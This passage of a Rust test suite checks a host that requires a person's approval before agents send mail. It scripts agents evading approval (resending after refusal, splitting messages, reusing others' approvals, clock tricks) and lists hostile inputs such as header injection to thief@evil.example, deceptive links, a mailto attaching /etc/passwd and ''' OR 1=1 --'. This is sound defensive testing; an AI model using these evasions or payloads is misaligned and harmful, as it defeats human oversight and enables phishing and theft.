        ("a scheme before it", "mailto:team-№@company.com"),
        ("headers behind it", "team@company.com?bcc=thief@evil.example"),
        ("two at signs", "team@company.com@evil.example"),
        ("no domain", "team@"),
        ("no local part", "@company.com"),
        ("neither", "@"),
        ("no text", ""),
        ("a dot before the at", "team.@company.com"),
        ("two dots", "te..am@company.com"),
        ("an underscore in the domain", "team@company_.com"),
        ("a hyphen before the dot", "team@company-.com"),
        ("a local part longer than may be", &long_local),
        ("an address longer than may be", &long),
        ("other letters of the local part", "tearn-№@company.com"),
        ("a local part in capitals", "TEAM-№@company.com"),
    ] {
        chapter.address(what, to);
    }
    for (what, subject) in [
        ("a header in the subject", "Report №\r\nBcc: thief@evil.example"),
        ("a body in the subject", "Report №\r\n\r\nPay."),
        ("a bare carriage return in the subject", "Report №\rBcc: thief@evil.example"),
        ("a line separator in the subject", "Report №\u{2028}Bcc: thief@evil.example"),
        ("a quoted encoded word in the subject", "Report № =?utf-8?q?=0D=0ABcc:_thief=40evil.example?="),
    ] {
        chapter.hide(what, "The numbers", json!({ "subject": subject }));
    }
    for (what, body) in [
        ("headers in the body", "Bcc: thief@evil.example\r\nSubject: Pay\r\n\r\nPay №."),
        ("a dot alone in the body", "Report №.\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n"),
        ("a boundary in the body", "--boundary №\r\nContent-Type: text/html\r\n\r\n<p>Pay.</p>"),
        ("a line like those between letters in the body", "Report №.\nFrom thief@evil.example\n\nPay."),
        ("quoted-printable in the body", "Report № =50=61=79=\n"),
    ] {
        chapter.body(what, body);
    }
}

fn normal_forms(chapter: &mut Chapter) {
    chapter.change("the domain in capitals, which is the same", json!({ "to": ["team@COMPANY.com"] }));
    let two = |one: &str, two: &str| with(told(), json!({ "to": [one, two] }));
    chapter.swap(
        "recipients in another order, which is the same",
        two("a@company.com", "b@company.com"),
        two("b@company.com", "a@company.com"),
    );
    for (what, one, other) in [
        ("composed and decomposed", "caf\u{e9} №", "cafe\u{301} №"),
        ("a ligature", "file №", "\u{fb01}le №"),
        ("a sign of Kelvin", "300 K №", "300 \u{212a} №"),
        ("a sharp s", "Strasse №", "Stra\u{df}e №"),
        ("an i without a dot", "Mail №", "Ma\u{131}l №"),
        ("digits of full width", "1200 №", "\u{ff11}\u{ff12}00 №"),
        ("a space that does not break", "1 200 №", "1\u{a0}200 №"),
        ("two signs for micro", "\u{b5} №", "\u{3bc} №"),
        ("a line break of one and of two", "a\nb №", "a\r\nb №"),
        ("a return at the end", "a №", "a №\r"),
        ("marks in another order", "a\u{323}\u{307} №", "a\u{307}\u{323} №"),
    ] {
        chapter.swap(
            &format!("the body, {what}"),
            with(told(), json!({ "body": one })),
            with(told(), json!({ "body": other })),
        );
    }
    let subject = |text: &str| with(told(), json!({ "subject": text }));
    chapter.swap("the subject, composed and decomposed", subject("caf\u{e9} №"), subject("cafe\u{301} №"));
    chapter.swap("the subject, a ligature", subject("file №"), subject("\u{fb01}le №"));
}

fn where_links_lead(chapter: &mut Chapter) {
    for (what, href) in [
        ("a user name with a semicolon", "https://bank.com;@evil.example/login"),
        ("a user name with a bracket", "https://bank.com)@evil.example/login"),
        ("a user name with a square bracket", "https://bank.com]@evil.example/login"),
        ("a user name and a password", "https://bank.com:443@evil.example/login"),
        ("an empty user name", "https://@evil.example/login"),
        ("an encoded at sign", "https://bank.com%40evil.example/login"),
        ("backslashes", "https:\\\\evil.example\\login"),
        ("a backslash before an at sign", "https://bank.com\\@evil.example/"),
        ("one slash", "https:/evil.example/login"),
        ("three slashes", "https:///evil.example/login"),
        ("an encoded letter in the host", "https://%65vil.example/login"),
        ("a dot of full width in the host", "https://evil\u{3002}example/login"),
        ("letters of full width in the host", "https://\u{ff45}vil.example/login"),
        ("a number for the host", "https://2130706433/login"),
        ("a hexadecimal number for the host", "https://0x7f000001/login"),
        ("an octal number for the host", "https://0177.0.0.1/login"),
        ("a tab in the host", "https://ev\til.example/login"),
        ("a line break in the host", "https://ev\nil.example/login"),
        ("a soft hyphen in the host", "https://ev\u{ad}il.example/login"),
        ("our bank before their name", "https://bank.com.evil.example/login"),
        ("our bank in the path", "https://evil.example/bank.com"),
        ("another scheme", "javascript:location='https://evil.example'"),
        ("two recipients", "mailto:thief@evil.example,bank@bank.com"),
        ("a hidden recipient", "mailto:bank@bank.com?bcc=thief@evil.example"),
        ("a copy, in capitals", "mailto:bank@bank.com?CC=thief@evil.example"),
        ("a recipient behind a question mark", "mailto:?to=thief@evil.example"),
        ("an encoded recipient", "mailto:thief%40evil.example"),
        ("a recipient with a route", "mailto:thief%25evil.example@bank.com"),
        ("a semicolon between recipients", "mailto:bank@bank.com;thief@evil.example"),
        ("a file that is attached", "mailto:bank@bank.com?attach=/etc/passwd"),
        ("an answer to somebody else", "mailto:bank@bank.com?reply-to=thief@evil.example"),
    ] {
        let href = href.replace('&', "&amp;");
        chapter.html(
            &format!("a link to the bank with {what}"),
            &format!("<p><a href=\"{href}\">bank.com</a></p>"),
        );
    }
    let evil = "<a href='https://evil.example/'>";
    for (what, inside) in [
        ("a link to the bank in two", format!("{evil}bank</a>{evil}.com</a>")),
        ("a link to the bank that begins late", format!("bank{evil}.com/login</a>")),
        ("a link to the bank that ends early", format!("{evil}bank</a>.com")),
        ("a link to a bank in Japanese letters", format!("{evil}日本語.jp</a>")),
        ("a link to another machine", format!("{evil}10.0.0.1</a>")),
        (
            "a link to the company that leads on",
            "<a href='https://company.com/r?to=https://evil.example/'>https://company.com/</a>".into(),
        ),
        (
            "a link behind a thousand of the company",
            (0..1_001).map(|n| format!("<a href='https://h{n}.company.com'>x</a> ")).collect::<String>()
                + evil
                + "x</a>",
        ),
    ] {
        chapter.html(what, &format!("<p>{inside}</p>"));
    }
    for (what, text) in [
        ("a backslash before an at sign in text", "Log in at http://bank.com\\@evil.example"),
        (
            "a bare host in Japanese letters",
            "Log in at www.日本語.jp/login, 日本語.jp or www.ไทย.com/x, or write to ceo@日本語.jp.",
        ),
        ("a host with a joiner that Persian needs", "Log in at http://می\u{200c}خواهم.com."),
        ("a share over the web", "See \\\\evil.example@SSL\\share."),
        ("a uuencoded file in capitals", "BEGIN 644 invoice.html\nJ/'-C<FEP=#YL;V-A=&EO\n`\nend\n"),
        ("a file in base64 with an encoded name", "begin-base64-encoded 644 YS5leGU=\nPHNjcmlwdD4=\n====\n"),
        ("a message in PGP", "-----BEGIN PGP MESSAGE-----\n\nhQEMA0000\n=abcd\n-----END PGP MESSAGE-----\n"),
        ("a message in PKCS7", "-----BEGIN PKCS7-----\nMIIB\n-----END PKCS7-----\n"),
        ("what is honest and looks odd", "［PDF］ 10kΩ ΔT β-blocker Москва-City http://company.com’s"),
        ("a user name before the host", "Log in at https://bank.com;@evil.example/login today."),
        (
            "a long user name before the host",
            &format!("Log in at https://bank.com-{}@evil.example/ today.", "a".repeat(400)),
        ),
        ("a bare host", "Please confirm at payroll-portal.evil.example/login before noon."),
        ("a bare address", "Or write to ceo@evil.example."),
        ("a bare host of capitals", "Confirm at EVIL.Example/login."),
        ("a bare host in brackets", "Confirm (evil.example), please."),
        ("a bare host with letters of another script", "Confirm at b\u{430}nk.com."),
        ("a bare host that looks like ours", "Confirm at cornpany.com/login."),
        ("a bare host with ours before it", "Confirm at company.com.evil.example."),
        ("a file that is a host", "See invoice.zip."),
        ("a share", "See \\\\10.0.0.7\\invoices."),
        ("a number with a path", "Confirm at 2130706433/login or 127.0.0.1/login."),
        ("a uuencoded file", "See the invoice.\n\nbegin 644 invoice.html\nJ/'-C<FEP=#YL;V-A=&EO\n`\nend\n"),
        ("a file in base64", "begin-base64 644 invoice.html\nPHNjcmlwdD4=\n====\n"),
        ("a file in yEnc", "=ybegin line=128 size=3 name=invoice.exe\nabc\n=yend size=3\n"),
        ("a file in BinHex", "(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jcG\n"),
        ("the beginning Outlook takes for a file", "begin  the numbers are in\n"),
        ("the number of a link", "Log in at the bank [1], not elsewhere."),
    ] {
        chapter.body(what, &format!("The numbers of report №.\n{text}"));
    }
}

/// The message of an input that was seen otherwise than it was signed.
pub fn case(name: &str) -> Value {
    let file = workspace().join(format!("tests/cases/signing/{name}.json"));
    let case: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    let mut steps = case["steps"].as_array().unwrap().iter();
    steps.find_map(|step| step.get("send")).unwrap().clone()
}

/// Bodies whose reader sees something else than stands there, or that readers see in several ways.
fn other_readings(chapter: &mut Chapter) {
    for name in ["strike-not", "table-swap", "cell-glue", "nowhere", "pre-tabs", "rtl-alef-iban", "rtl-iban"]
    {
        let message = case(name);
        chapter.lie(name, open(&json!({}), &message));
    }
    for (what, inside) in [
        ("a word struck out as deleted", "<p>do <del>not</del> pay</p>"),
        ("a word struck out in an old way", "<p>do <strike>not</strike> pay</p>"),
        ("a paragraph struck out", "<s><p>Do not pay.</p></s>"),
        ("lists in cells", "<table><tr><td><ul><li>a<li>b</ul><td><ul><li>c<li>d</ul></table>"),
        ("paragraphs in cells", "<table><tr><td><p>Pay:</p><p>Refuse:</p><td><p>900</p><p>100</p></table>"),
        ("a cell over two columns", "<table><tr><td colspan=2>Pay:<td>900<tr><td>a<td>b<td>c</table>"),
        ("a cell over two rows", "<table><tr><td rowspan=2>Pay:<td>900<tr><td>100</table>"),
        ("an empty list that glues", "<table><tr><td>EUR 10<ul></ul></td><td>000</table>"),
        ("a table with its head below", "<table><tr><td>900<thead><tr><td>Refuse:</thead></table>"),
        ("cells that are written as a cell", "<table><tr><td>Pay: | 900<td>Refuse:</table>"),
        ("marks like those of the host", "<p>do ⁅struck out: not⁆ ⟬row 1⟭ ⦋2⦌ ⦍3⦎ 〖4〗 pay</p>"),
        ("marks of the host", "<p>⟦row 1, column 2⟧ 900</p><p>⟦struck out: 100⟧</p>"),
        ("the number of a link", "<p>See [1] <a href='https://company.com/'>this</a></p>"),
        ("an item that is none", "<p>1. Pay 900</p><ol><li>Refuse</ol>"),
        ("a list that counts from elsewhere", "<ol start=7><li>a</ol>"),
        ("a list that counts down", "<ol reversed><li>a<li>b</ol>"),
        ("a raised digit", "<p>EUR 10<sup>3</sup></p>"),
        ("a small word", "<p>do <small>not</small> pay</p>"),
        ("tabs before a mark", "<pre>a\t<b>\t9</b></pre>"),
        ("a paragraph that begins from the right", "<p>\u{5d0} Pay 900 and not 100</p>"),
        ("a direction that is asked for", "<p dir=rtl>900 - 100</p>"),
        ("an order that is overridden", "<bdo dir=rtl>009</bdo>"),
        ("digits between letters from the right", "<p>\u{627}\u{644} 3704 \u{627} 0044</p>"),
        ("a line from the right alone", "<p>\u{5e9}\u{5dc}\u{5d5}\u{5dd}</p>"),
        ("a cell that mixes directions", "<table><tr><td>1 \u{5d0} 2</table>"),
    ] {
        chapter.html(what, inside);
    }
    for (what, body) in [
        ("text with tabs", "Vendor\t\tPay\tRefuse №\nACME Ltd\t\t900"),
        ("text with a carriage return", "Pay 100 №\rPay 900"),
        ("text in which Arabic digits change places", "Pay № 12 \u{627} 34-56"),
        ("strokes through the letters", "please do n\u{336}o\u{336}t\u{336} pay № n\u{20d2}ot"),
        ("numerals that are no digits", "№ ½ \u{5d0} ¾ \u{5d1}\n① \u{5d0} ②"),
        ("text that begins from the right", "\u{5d0} Pay № 900"),
        ("marks of the host in text", "⟦some readers see⟧ Pay № 9"),
    ] {
        chapter.body(what, body);
    }
    chapter.change(
        "a subject with a letter from the right",
        json!({ "subject": "Account 1111 № \u{5d0} 3704" }),
    );
    chapter.change(
        "a subject with strokes through its letters",
        json!({ "subject": "Do n\u{336}o\u{336}t\u{336} pay №" }),
    );
}

/// The same message in other clothes, after a no and after a yes.
fn nags(chapter: &mut Chapter) {
    let message = || {
        let body = "The numbers of report № are in.\n1,200 units.\n";
        with(told(), json!({ "to": ["team@company.com", "boss@company.com"], "body": body }))
    };
    for (what, other) in [
        ("letter by letter", json!({})),
        ("with other line ends", json!({ "body": "The numbers of report № are in.\r\n1,200 units.\r\n" })),
        (
            "with spaces at the ends of lines",
            json!({ "body": "The numbers of report № are in.   \n1,200 units. \t" }),
        ),
        (
            "with more spaces between words",
            json!({ "body": "The  numbers of report №   are in.\n 1,200 units." }),
        ),
        (
            "with a space that does not break",
            json!({ "body": "The numbers of report №\u{a0}are in.\n1,200 units." }),
        ),
        (
            "with letters nobody sees",
            json!({ "body": "The num\u{200b}bers of report № are in.\n1,200\u{2060} units." }),
        ),
        (
            "with blank lines around it",
            json!({ "body": "\n\nThe numbers of report № are in.\n1,200 units.\n\n\n" }),
        ),
        ("with its recipients in another order", json!({ "to": ["boss@company.com", "team@company.com"] })),
        ("with a capital in an address", json!({ "to": ["Team@company.com", "boss@company.com"] })),
        (
            "with a recipient twice",
            json!({ "to": ["team@company.com", "boss@company.com", "Boss@company.com"] }),
        ),
        ("with spaces around the subject", json!({ "subject": "  Report  № " })),
        (
            "as HTML that reads the same",
            json!({ "bodyKind": "html", "body": "<p>The numbers of report № are in.<br>1,200 units.</p>" }),
        ),
    ] {
        let same = with(message(), other);
        let ask_and_send = |message: &Value| Run(json!([ask(message), send(message)]));
        chapter.lie(
            format!("declined, and asked about again {what}"),
            vec![ask_and_send(&message()), No, ask_and_send(&same), All],
        );
        chapter.lie(
            format!("sent, and asked about again {what}"),
            vec![ask_and_send(&message()), Yes, ask_and_send(&same), No],
        );
    }
}

fn turncoats(chapter: &mut Chapter) {
    let t = told();
    let pay = with(told(), json!({ "body": "Pay 9,000 to account 77 №." }));
    let lines = with(told(), json!({ "body": "№ $lines" }));
    let sleep = |ms: i64| json!({ "call": "sleep", "with": { "ms": ms } });
    let when = |step: Value, when: &str| with(step, json!({ "when": when }));
    let looked_up = json!({ "call": "approval.result", "with": { "approvalId": "$last" } });
    let look_up = |id: &str| json!({ "call": "approval.result", "with": { "approvalId": id } });
    let asks = || Run(json!([ask(&t), send(&t)]));

    // What it computes from differs.
    let differing = |steps: Value, between: Act| vec![Run(steps), between, All];
    chapter.lie(
        "the time in the body, hours later",
        differing(json!([ask(&t), call("clock"), send(&lines)]), Hours(9)),
    );
    chapter.lie(
        "the time before the ask in the body",
        differing(json!([call("clock"), ask(&t), send(&lines)]), Hours(9)),
    );
    chapter
        .lie("randomness in the body", differing(json!([ask(&t), call("random"), send(&lines)]), Hours(1)));
    chapter.lie(
        "randomness before and behind the ask",
        differing(json!([call("random"), ask(&t), call("random"), send(&lines)]), Hours(1)),
    );
    chapter.lie(
        "the inbox in the body, and mail arrives",
        differing(json!([ask(&t), call("messages.list"), send(&lines)]), Mail),
    );
    chapter.lie(
        "the inbox read before, and mail arrives",
        differing(json!([call("messages.list"), ask(&t), send(&lines)]), Mail),
    );
    chapter.lie(
        "the inbox read twice, and mail arrives",
        differing(json!([call("messages.list"), ask(&t), call("messages.list"), send(&lines)]), Mail),
    );
    let full = json!({ "call": "messages.list", "full": true });
    chapter.lie(
        "whole messages in the body, and mail arrives",
        differing(json!([ask(&t), full, send(&lines)]), Mail),
    );
    chapter.lie(
        "the approval looked up in the body",
        differing(json!([ask(&t), looked_up, send(&lines)]), Hours(1)),
    );
    chapter.lie(
        "the approval looked up often",
        differing(json!([ask(&t), with(looked_up.clone(), json!({ "times": 20 })), send(&lines)]), Hours(1)),
    );
    chapter.lie(
        "another approval's id looked up",
        vec![asks(), Yes, Run(json!([ask(&t), look_up("†"), send(&lines)])), All],
    );
    chapter.lie(
        "a timer before the send",
        differing(json!([ask(&t), sleep(3_600_000), call("clock"), send(&lines)]), Hours(1)),
    );
    chapter.lie(
        "a timer longer than an approval lives",
        differing(json!([ask(&t), sleep(400_000_000_000), send(&t)]), Hours(1)),
    );
    chapter.lie(
        "its own log in between",
        differing(
            json!([ask(&t), json!({ "call": "log", "with": { "text": "\u{1b}[2J" } }), send(&t)]),
            Hours(1),
        ),
    );
    for (action, what) in [
        ("differ_by_random", "another agent's randomness in the body"),
        ("differ_by_time", "another agent's time in the body"),
        ("send_twice", "another agent sends twice"),
        ("trap_after_approval", "another agent crashes once it is approved"),
        ("leak_env", "another agent looks for its surroundings"),
    ] {
        chapter.lie(what, vec![RunOf(MISBEHAVING, action, json!({})), Hours(1), All]);
    }

    // How often, and in which order, it sends.
    chapter.script("the same message twice", json!([ask(&t), send(&t), send(&t)]));
    chapter.script("the same message ten times", json!([ask(&t), with(send(&t), json!({ "times": 10 }))]));
    chapter.script("another message first", json!([ask(&t), send(&pay), send(&t)]));
    chapter.script("another message afterwards", json!([ask(&t), send(&t), send(&pay)]));
    chapter.script(
        "another message first, behind a second ask",
        json!([ask(&t), ask(&pay), send(&pay), send(&t)]),
    );
    chapter.script(
        "two asks, two messages in the other order",
        json!([ask(&t), ask(&pay), send(&pay), send(&t)]),
    );
    chapter.script(
        "two asks, two messages, and the first again",
        json!([ask(&t), send(&t), ask(&pay), send(&pay), send(&t)]),
    );
    chapter.script("three asks, one message", json!([ask(&t), ask(&t), ask(&t), send(&t)]));
    chapter.script("three asks, another message", json!([ask(&t), ask(&t), ask(&t), send(&pay)]));
    chapter.script(
        "an ask for nothing, and a message after it",
        json!([ask(&json!({})), ask(&json!({})), send(&pay)]),
    );
    let without = |field: &str| with(told(), json!({ field: [] }));
    chapter.script(
        "a message that cannot be sent, and one that can",
        json!([ask(&t), send(&without("to")), send(&pay)]),
    );
    chapter.script("no ask", json!([send(&pay)]));
    chapter.script("no ask, and one afterwards", json!([send(&pay), ask(&t), send(&t)]));
    chapter.script("a send, and its ask behind it", json!([send(&pay), ask(&pay)]));
    chapter.script("an ask, and nothing", json!([ask(&t)]));
    chapter.script("an ask refused for its form, and the send", json!([ask(&json!("[]")), send(&pay)]));
    chapter.script(
        "an endless loop once it is approved",
        json!([ask(&t), { "call": "loop", "with": { "n": 1_000_000_000_000_u64 } }, send(&pay)]),
    );
    chapter.script("a crash once it is approved", json!([ask(&t), call("trap"), send(&pay)]));
    chapter.script(
        "an error once it is approved",
        json!([ask(&t), { "call": "fail", "with": { "code": "X", "message": "x" } }, send(&pay)]),
    );

    // It is told no.
    chapter.lie("told no, it sends", vec![Run(json!([ask(&t), send(&t)])), No]);
    chapter.lie(
        "told no, it sends another",
        vec![Run(json!([ask(&t), when(send(&t), "approved"), when(send(&pay), "declined")])), No],
    );
    chapter.lie(
        "told no, it asks again",
        vec![Run(json!([ask(&t), when(ask(&t), "declined"), send(&t)])), No, All],
    );
    chapter.lie(
        "told no, it asks in other words",
        vec![
            Run(json!([ask(&t), when(ask_as("Save", "A draft.", &json!({})), "declined"), send(&t)])),
            No,
            All,
        ],
    );
    chapter.lie(
        "told no, it asks for a question and sends",
        vec![
            Run(json!([ask(&t), ask(&json!({ "question": "May I?" })), ask(&json!({})), send(&t)])),
            No,
            All,
        ],
    );
    chapter.lie("told no, it asks in another intent", vec![asks(), No, asks(), All]);
    chapter.lie(
        "told no, it asks in another intent in other words",
        vec![asks(), No, Run(json!([ask_as("Tea", "Earl Grey.", &json!({})), send(&t)])), All],
    );
    chapter.lie(
        "told no, it declares in another intent and hides",
        vec![asks(), No, Run(json!([ask(&t), ask(&t), send(&t)])), All],
    );
    chapter.lie("told no, it asks in another intent a day later", vec![asks(), No, Hours(25), asks(), All]);
    chapter.lie("told no, it sends unasked in another intent", vec![asks(), No, Run(json!([send(&t)])), All]);
    chapter.lie(
        "told no, another agent asks",
        vec![asks(), No, RunOf(OTHER, "script", json!([ask(&t), send(&t)])), All],
    );
    chapter.lie(
        "told no, another build asks",
        vec![
            RunOf(OTHER, "script", json!([ask(&t), send(&t)])),
            No,
            Upgrade,
            RunOf(OTHER, "script", json!([ask(&t), send(&t)])),
            All,
        ],
    );
    chapter.lie(
        "told no, it asks with one space more",
        vec![
            asks(),
            No,
            Run(json!([
                ask(&t),
                send(&with(told(), json!({ "body": "The numbers of report № are in: 1,200 units. " })))
            ])),
            All,
        ],
    );
    let pieces = ["Pay", " 9,000", " to", " account 77"];
    let piece = |text: &str| with(told(), json!({ "body": format!("{text} №") }));
    let split: Vec<Value> = pieces.iter().flat_map(|text| [ask(&piece(text)), send(&piece(text))]).collect();
    chapter.lie(
        "told no, it sends it in pieces",
        vec![Run(json!([ask(&pay), send(&pay)])), No, Run(json!(split)), All],
    );
    let unasked: Vec<Value> =
        [ask(&piece(pieces[0]))].into_iter().chain(pieces.map(|text| send(&piece(text)))).collect();
    chapter.lie(
        "told no, it sends pieces for the yes to one",
        vec![Run(json!([ask(&pay), send(&pay)])), No, Run(json!(unasked)), All],
    );
    let three = || vec![asks(), Hours(80), Settle, asks(), Hours(80), Settle, asks(), Hours(80), Settle];
    chapter.lie("never answered, it asks a fourth time", three().into_iter().chain([asks(), All]).collect());

    // It uses an approval that is not its own.
    chapter.lie(
        "the approval of another intent",
        vec![asks(), Sign, Run(json!([send(&t)])), All, Turn(0), Resume],
    );
    chapter.lie(
        "the approval of another intent, by its id",
        vec![asks(), Sign, Run(json!([look_up("†"), send(&t)])), All, Turn(0), Resume],
    );
    chapter.lie(
        "the approval of another agent",
        vec![asks(), Sign, RunOf(OTHER, "script", json!([look_up("†"), send(&t)])), All, Turn(0), Resume],
    );
    chapter.lie(
        "the approval of another build",
        vec![
            RunOf(OTHER, "script", json!([ask(&t), send(&t)])),
            Sign,
            Upgrade,
            RunOf(OTHER, "script", json!([send(&t)])),
            All,
            Turn(0),
            Resume,
        ],
    );
    chapter.lie(
        "the approval of another user",
        vec![asks(), Sign, RunFor(NEIGHBOUR, json!([look_up("†"), send(&t)])), All, Turn(0), Resume],
    );
    chapter.lie(
        "the approval of the neighbour, for oneself",
        vec![
            RunFor(NEIGHBOUR, json!([ask(&t), send(&t)])),
            Sign,
            Run(json!([look_up("†"), send(&t)])),
            All,
            Turn(0),
            Resume,
        ],
    );
    for id in ["", "__proto__", "constructor", "appr_1", "*", "' OR 1=1 --"] {
        chapter.script(&format!("an approval called `{id}`"), json!([look_up(id), send(&pay)]));
    }

    // Something comes between the yes and the send.
    let after_yes =
        |acts: &[Act]| [asks(), Sign].into_iter().chain(acts.to_vec()).chain([Resume]).collect::<Vec<_>>();
    chapter.lie("the yes is taken back", after_yes(&[TakeBack]));
    chapter.lie("the yes has expired", after_yes(&[Hours(73)]));
    chapter.lie("the yes has expired and been cleared away", after_yes(&[Hours(73), Settle]));
    chapter.lie("the right to send is taken away", after_yes(&[Revoke]).into_iter().chain([Grant]).collect());
    chapter.lie("the right is taken away and given back", after_yes(&[Revoke, Grant]));
    chapter.lie("the intent is cancelled", vec![asks(), Sign, Cancel, Resume]);
    // The host's time stands still until the clock has come where it was, so it is put there again for those who come after.
    chapter.lie(
        "the yes has expired, and the clock is set back",
        vec![asks(), Sign, Hours(73), Settle, Hours(-73), Settle, Resume, Hours(73)],
    );
    chapter.lie(
        "the time to say yes is over, and the clock is set back",
        vec![asks(), Hours(73), Settle, Hours(-73), All, Hours(73)],
    );
    chapter.lie(
        "the person writes another subject, the agent sends its own",
        vec![asks(), EditAndSign("Edited №"), Resume],
    );
    chapter.lie(
        "the person writes another subject, the agent sends another",
        vec![Run(json!([ask(&t), send(&pay)])), EditAndSign("Edited №"), Resume],
    );
    chapter.lie(
        "the person edits, the agent sends twice",
        vec![Run(json!([ask(&t), send(&t), send(&t)])), EditAndSign("Edited №"), Resume],
    );
    chapter.lie(
        "the person edits, behind a second ask",
        vec![Run(json!([ask(&t), ask(&t), send(&pay)])), EditAndSign("Edited №"), Resume, All],
    );
    chapter.lie(
        "told no when it asks again, it sends what was held",
        vec![Run(json!([ask(&json!({})), ask(&json!({})), send(&pay)])), Yes, No, All],
    );
    chapter.lie(
        "a hold that has expired",
        vec![Run(json!([ask(&json!({})), ask(&json!({})), send(&pay)])), Yes, Hours(73), Settle, All],
    );
}

// ---- The host they are told to -------------------------------------------------------------------------------------------

/// What was on the person's screen when they said yes.
struct Signed {
    shown: Option<Action>,
    at_ms: Millis,
}

/// One host, under one policy, to which all lies are told one after the other.
struct Court {
    host: Host,
    data: tempfile::TempDir,
    signed: BTreeMap<String, Signed>,
    builds: u32,
}

/// What came of one lie.
#[derive(Debug, PartialEq)]
struct Verdicts {
    shown: String,
    heard: String,
    /// How many messages left.
    left: usize,
    /// How many of them nobody had been shown.
    silently: usize,
    /// How many of them were signed without any message to look at.
    uninspectable: usize,
}

impl Verdicts {
    /// What became of it, in the words of the summary.
    fn end(&self) -> &'static str {
        let refused = |heard: &str| {
            let code =
                |word: &str| word.len() > 4 && word.chars().all(|c| c.is_ascii_uppercase() || c == '_');
            heard.split([' ', ':', '(']).any(code)
        };
        match (self.left, self.shown.contains("; "), refused(&self.heard)) {
            (0, _, true) => "refused or stopped",
            (0, _, false) => "never sent",
            (_, false, _) => "shown whole and signed",
            (_, true, _) => "asked again, shown whole and signed",
        }
    }
}

impl Court {
    async fn open(policy: Policy) -> Court {
        let data = tempfile::tempdir().unwrap();
        let user = |address: &str| User { address: address.into(), way: Way::Embedded };
        let users = [(USER, "me@company.com"), (NEIGHBOUR, "neighbour@company.com")];
        let users = users.map(|(name, address)| (name.to_owned(), user(address)));
        let host = Host::open(Options {
            data: data.path().join("data"),
            config: Config { users: users.into(), policy, ..Config::default() },
            clock: Arc::new(Clock::virtual_at(1_772_000_000_000, 1)),
            cache: Some(workspace().join("target/test-cache/countersign")),
            limits: Limits { fuel_max: 200_000_000, wall_max: Duration::from_secs(60) },
            in_memory: true,
        })
        .unwrap();
        let mut court = Court { host, data, signed: BTreeMap::new(), builds: 0 };
        for package in ["guest-script", "guest-misbehaving"] {
            let bytes = std::fs::read(guest(package)).unwrap();
            let how = Install { grants: BOTH.into(), ..Install::default() };
            court.host.install(USER, bytes, how, "a test").await.unwrap();
        }
        court.host.grant(NEIGHBOUR, SCRIPT, &BOTH, "a test").await.unwrap();
        court.upgrade().await;
        // The user has written to these before, so that whoever is new is noticed.
        let known =
            json!({ "to": ["team@company.com", "boss@company.com"], "subject": "Hello", "body": "Hello." });
        let honest = Lie { item: "", what: String::new(), acts: open(&known, &known) };
        assert_eq!(court.hear(0, &honest).await.left, 1);
        court
    }

    /// Puts another build in the place of the other agent.
    async fn upgrade(&mut self) {
        self.builds += 1;
        let manifest = json!({
            "id": OTHER, "name": "Other", "version": format!("1.0.{}", self.builds), "description": "",
            "capabilities": ["messages.read", "messages.send"]
        });
        let bytes = std::fs::read(guest("guest-script-bare")).unwrap();
        let how = Install { manifest: Some(manifest.to_string()), grants: BOTH.into(), ..Install::default() };
        self.host.install(USER, bytes, how, "a test").await.unwrap();
    }

    /// Tells one lie and watches what becomes of it.
    async fn hear(&mut self, number: usize, lie: &Lie) -> Verdicts {
        let mut runs: Vec<(&str, String)> = Vec::new();
        let (mut turn, mut shown, mut latest) = (0, Vec::new(), String::new());
        for act in &lie.acts {
            let started = match act {
                Run(steps) => Some((USER, SCRIPT, "script", json!({ "steps": steps }))),
                RunFor(user, steps) => Some((*user, SCRIPT, "script", json!({ "steps": steps }))),
                RunOf(MISBEHAVING, action, parameters) => {
                    Some((USER, MISBEHAVING, *action, parameters.clone()))
                }
                RunOf(agent, action, steps) => Some((USER, *agent, *action, json!({ "steps": steps }))),
                _ => None,
            };
            if let Some((user, agent, action, parameters)) = started {
                let text = parameters.to_string().replace(NUMBER, &number.to_string());
                let text = text.replace(APPROVAL, &latest);
                let parameters = serde_json::from_str(&text).unwrap();
                let view = self.host.submit(user, agent, action, parameters, None).await.unwrap();
                (turn, latest) = (runs.len(), Court::asked(&view).unwrap_or(latest));
                runs.push((user, view.intent.id));
                continue;
            }
            let (user, id) = runs.get(turn).map_or((USER, String::new()), |(user, id)| (*user, id.clone()));
            match act {
                Run(_) | RunFor(..) | RunOf(..) => unreachable!("it has been started above"),
                Turn(to) => turn = *to,
                Yes => self.answer(user, &id, Verdict::Approve, true, &mut shown).await,
                No => self.answer(user, &id, Verdict::Decline, true, &mut shown).await,
                Sign => self.answer(user, &id, Verdict::Approve, false, &mut shown).await,
                Resume => drop(self.host.resume(user, &id).await.unwrap()),
                All => {
                    for _ in 0..YESES_MAX {
                        self.answer(user, &id, Verdict::Approve, true, &mut shown).await;
                    }
                }
                TakeBack => drop(self.host.take_back(user, &latest, "a person").await.unwrap()),
                EditAndSign(subject) => {
                    let view = self.host.show(user, &id).unwrap();
                    let Some(Stored { approval, .. }) = view.pending() else { continue };
                    let subject = Some(subject.replace(NUMBER, &number.to_string()));
                    let edit = Edit { subject, ..Edit::default() };
                    let edited =
                        self.host.edit(user, &approval.id, edit, Some(approval.digest), "a person").await;
                    shown.push(if edited.is_ok() { "edited" } else { "not edited" }.to_owned());
                    self.answer(user, &id, Verdict::Approve, false, &mut shown).await;
                }
                Mail => self.mail(number).await,
                Hours(hours) => self.host.clock().advance(hours * 3_600_000),
                Settle => self.host.settle().await.unwrap(),
                Cancel => drop(self.host.cancel(user, &id).await.unwrap()),
                Revoke => {
                    let what = [Capability::MessagesSend];
                    drop(self.host.revoke(USER, SCRIPT, &what, "a person").await.unwrap());
                }
                Grant => drop(self.host.grant(USER, SCRIPT, &BOTH, "a person").await.unwrap()),
                Upgrade => self.upgrade().await,
            }
        }
        self.judge(&runs, &shown).await
    }

    /// The approval a run waits for.
    fn asked(view: &View) -> Option<String> {
        view.pending().map(|stored| stored.approval.id.clone())
    }

    /// The person looks at what the run asks, if it asks anything, and answers.
    async fn answer(
        &mut self,
        user: &str,
        id: &str,
        verdict: Verdict,
        resume: bool,
        shown: &mut Vec<String>,
    ) {
        let view = self.host.show(user, id).unwrap();
        let Some(stored) = view.pending() else { return };
        shown.push(seen(stored));
        let approval = &stored.approval;
        let decided = self.host.decide(user, &approval.id, verdict, approval.digest, "a person", None).await;
        match decided {
            Ok(_) if verdict == Verdict::Approve => {
                let signed = Signed { shown: approval.leaving().cloned(), at_ms: self.host.clock().now() };
